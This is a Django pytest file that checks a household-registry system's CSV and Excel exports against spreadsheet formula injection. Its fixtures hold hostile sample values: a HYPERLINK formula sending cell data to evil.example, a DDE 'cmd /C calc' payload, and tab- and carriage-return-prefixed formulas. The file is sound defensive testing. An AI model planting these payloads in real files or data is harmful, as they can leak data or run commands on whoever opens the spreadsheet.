"""Formula injection (issue 11, item 7): every spreadsheet the system produces, downloaded after hostile text
was typed into the records it shows. A spreadsheet must never hold a live formula made from a user's text,
nor a text cell that a spreadsheet program would run as one when the file is opened (CSV) or edited."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from huey.contrib.djhuey import HUEY
from openpyxl import load_workbook

from jingzhun.accounts.roles import Role
from jingzhun.core.tabular import FORMULA_START
from jingzhun.jobs.models import Job, JobStatus
from jingzhun.policy import services as policy
from jingzhun.policy.models import CodeItem
from jingzhun.regions.models import Region
from jingzhun.registry.models import Member
from jingzhun.registry.tests.factories import HouseholdYearFactory, household_with_members

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'  # a member name
GROUP = '+1+cmd|" /C calc"!A0'  # a 村民小组 name (region names come from the region import)
LABEL = "@SUM(1+1)*cmd"  # a code-table label (the 健康 item of the health table)
TAB = "\t=1+2"  # a member name starting with a tab
CR = "\r=1+2"  # a household address starting with a carriage return
HOSTILE = (NAME, GROUP, LABEL, TAB, CR)


@pytest.fixture(autouse=True)
def immediate_queue(settings: Any, tmp_path: Any) -> Iterator[None]:
    settings.VAR_DIR = tmp_path  # uploads and background exports
    HUEY.immediate = True
    yield
    HUEY.immediate = False


@pytest.fixture
def hostile(tree: Any) -> Any:
    Region.objects.unscoped().filter(code=tree.group_a1).update(name=GROUP)
    CodeItem.objects.filter(table__key="health", code="1").update(label=LABEL)
    policy.clear_cache()
    household = household_with_members(tree.village_a1, size=3, group_id=tree.group_a1, address=CR)
    HouseholdYearFactory(household=household, year=2025)
    members = Member.objects.unscoped().filter(household=household)
    members.filter(name="张大山").update(name=NAME)
    members.filter(name="李秀英").update(name=TAB)
    return household


def cells_of_xlsx(data: bytes) -> list[Any]:
    """Every cell of every sheet; a formula cell fails at once."""
    wb = load_workbook(io.BytesIO(data))
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a live formula: {cell.value!r}"
                cells.append(cell.value)
    return cells


def cells_of_csv(data: bytes) -> list[Any]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def assert_inert(cells: list[Any], expected: tuple[str, ...]) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    runnable = [t for t in texts if t.startswith(FORMULA_START)]
    assert not runnable, f"cells a spreadsheet would run: {runnable}"
    # The hostile text is there, kept as text (XML reads a carriage return back as a line feed).
    texts = [t.replace("\r", "\n") for t in texts]
    for text in expected:
        assert "'" + text.replace("\r", "\n") in texts, f"{text!r} missing"


def content(response: Any) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def login(client: Client, make_user: Any, role: str, scope: str) -> Any:
    user = make_user(role, scope)
    client.force_login(user)
    return user


def test_village_register(client: Client, make_user: Any, tree: Any, hostile: Any) -> None:
    login(client, make_user, Role.VILLAGE, tree.village_a1)
    data = content(client.get(reverse("registry:village_register", args=[tree.village_a1]), {"year": 2025}))
    assert_inert(cells_of_xlsx(data), (NAME, GROUP, LABEL, TAB))


def test_township_register(client: Client, make_user: Any, tree: Any, hostile: Any) -> None:
    login(client, make_user, Role.TOWNSHIP, tree.township_a)
    data = content(client.get(reverse("registry:township_register", args=[tree.township_a]), {"year": 2025}))
    assert_inert(cells_of_xlsx(data), (NAME, GROUP))


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("exchange:export_csv", (NAME, CR)),
        ("exchange:export_members_csv", (NAME, TAB, LABEL)),
    ],
)
def test_csv_exports(client: Client, make_user: Any, tree: Any, hostile: Any, name: str, expected: tuple) -> None:
    login(client, make_user, Role.VILLAGE, tree.village_a1)
    assert_inert(cells_of_csv(content(client.get(reverse(name), {"year": 2025}))), expected)


def test_excel_export(client: Client, make_user: Any, tree: Any, hostile: Any) -> None:
    login(client, make_user, Role.VILLAGE, tree.village_a1)
    data = content(client.get(reverse("exchange:export_xlsx"), {"year": 2025}))
    assert_inert(cells_of_xlsx(data), (NAME, TAB, CR, LABEL))


def test_background_excel_export(
    client: Client, make_user: Any, tree: Any, hostile: Any, settings: Any, django_capture_on_commit_callbacks: Any
) -> None:
    settings.EXPORT_BACKGROUND_MIN_HOUSEHOLDS = 1
    login(client, make_user, Role.VILLAGE, tree.village_a1)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("exchange:export_xlsx") + "?year=2025")
    job = Job.objects.unscoped().get()
    assert job.status == JobStatus.SUCCEEDED, job.error
    data = content(client.get(reverse("exchange:export_file", args=[job.pk])))
    assert_inert(cells_of_xlsx(data), (NAME, TAB, CR, LABEL))


def test_import_template(client: Client, make_user: Any, tree: Any, hostile: Any) -> None:
    login(client, make_user, Role.VILLAGE, tree.village_a1)
    assert_inert(cells_of_xlsx(content(client.get(reverse("exchange:template")))), (LABEL,))


def test_error_workbook_of_an_upload(
    client: Client, make_user: Any, tree: Any, django_capture_on_commit_callbacks: Any
) -> None:
    """The uploaded values come back in the marked workbook: as text, whatever was typed."""
    login(client, make_user, Role.VILLAGE, tree.village_a1)
    rows = [["户编号", "行政村", "户主姓名"], ["", tree.village_a1, NAME], ["", tree.village_a1, TAB]]
    text = "".join(",".join(f'"{c.replace(chr(34), chr(34) * 2)}"' for c in row) + "\r\n" for row in rows)
    upload = SimpleUploadedFile("导入.csv", text.encode("utf-8"), content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("exchange:upload"), {"files": [upload]})
    job = Job.objects.unscoped().get()
    data = content(client.get(reverse("exchange:error_workbook", args=[job.pk])))
    assert_inert(cells_of_xlsx(data), (NAME, TAB))


@pytest.mark.parametrize("name", ["regions:export_csv", "regions:export_xlsx"])
def test_region_exports(client: Client, county_admin: Any, tree: Any, hostile: Any, name: str) -> None:
    client.force_login(county_admin)
    data = content(client.get(reverse(name, args=[tree.village_a1])))
    cells = cells_of_csv(data) if name.endswith("csv") else cells_of_xlsx(data)
    assert_inert(cells, (GROUP,))


def test_audit_log_export(client: Client, make_user: Any, tree: Any, hostile: Any) -> None:
    member = Member.objects.unscoped().get(name=NAME)
    member.work_location = "@外地"
    member.save()  # an audited change: its entry names the member
    login(client, make_user, Role.AUDITOR, tree.county)
    cells = cells_of_csv(content(client.get(reverse("audit:export"), {"object_type": "registry.member"})))
    assert_inert(cells, ())
    assert any(isinstance(c, str) and c.startswith("'=HYPERLINK") for c in cells)
